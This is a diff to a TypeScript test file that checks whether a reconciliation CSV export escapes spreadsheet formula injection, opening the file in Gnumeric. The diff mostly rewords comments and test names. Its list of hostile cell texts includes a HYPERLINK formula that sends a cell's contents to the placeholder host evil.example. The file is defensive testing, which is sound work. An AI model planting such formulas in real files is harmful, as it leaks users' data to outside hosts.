@@ -1,4 +1,4 @@
-/** What a spreadsheet makes of the reconciliation file: Gnumeric's own reader opens it. */
+/** The reconciliation file in a spreadsheet: Gnumeric opens it. */
 import { spawnSync } from 'node:child_process';
 import { existsSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
@@ -10,7 +10,7 @@ const SSCONVERT = '/usr/bin/ssconvert';
 const isThere = existsSync(SSCONVERT);
 const NAME = isThere ? 'a spreadsheet' : 'a spreadsheet (gnumeric is not installed)';
 
-/** Texts that a shopper or a shop may choose, each of which some spreadsheet takes for a formula. */
+/** Texts of a shopper or a shop, each of which some spreadsheet reads as a formula. */
 const HOSTILE = [
   '=1+2',
   '=HYPERLINK("http://evil.example/?"&A1;"details")',
@@ -34,7 +34,7 @@ interface Cell {
   readonly text: string;
 }
 
-/** The cells of a file with these lines, as the spreadsheet has them, without the header. */
+/** The cells of a file with these lines, as the spreadsheet reads them, without the header. */
 function cellsOf(lines: readonly string[]): Cell[] {
   const folder = temporaryFolder();
   const [file, opened] = [join(folder, 'file.csv'), join(folder, 'file.xml')];
@@ -49,17 +49,17 @@ function cellsOf(lines: readonly string[]): Cell[] {
   );
 }
 
-/** A line with a text in its second column, beside as many columns as the header has. */
+/** A line with a text in its second column, with as many columns as the header. */
 const lineWith = (text: string) =>
   `DB;${field(text)}${';1'.repeat(HEADER.split(';').length - 2)}\n`;
 
-it.skipIf(!isThere)(`${NAME} calculates nothing of a text that begins as a formula`, () => {
+it.skipIf(!isThere)(`${NAME} does not calculate a text that begins like a formula`, () => {
   const cells = cellsOf(HOSTILE.map((text) => lineWith(harmless(text))));
   expect(cells.filter(({ isFormula }) => isFormula)).toEqual([]);
   expect(cells.filter(({ column }) => column === 1).length).toBeGreaterThanOrEqual(HOSTILE.length);
 });
 
-it.skipIf(!isThere)(`${NAME} would calculate it as it came`, () => {
+it.skipIf(!isThere)(`${NAME} calculates the same text without its apostrophe`, () => {
   const cells = cellsOf(HOSTILE.map(lineWith));
   expect(cells.filter(({ isFormula }) => isFormula).length).toBeGreaterThan(0);
 });
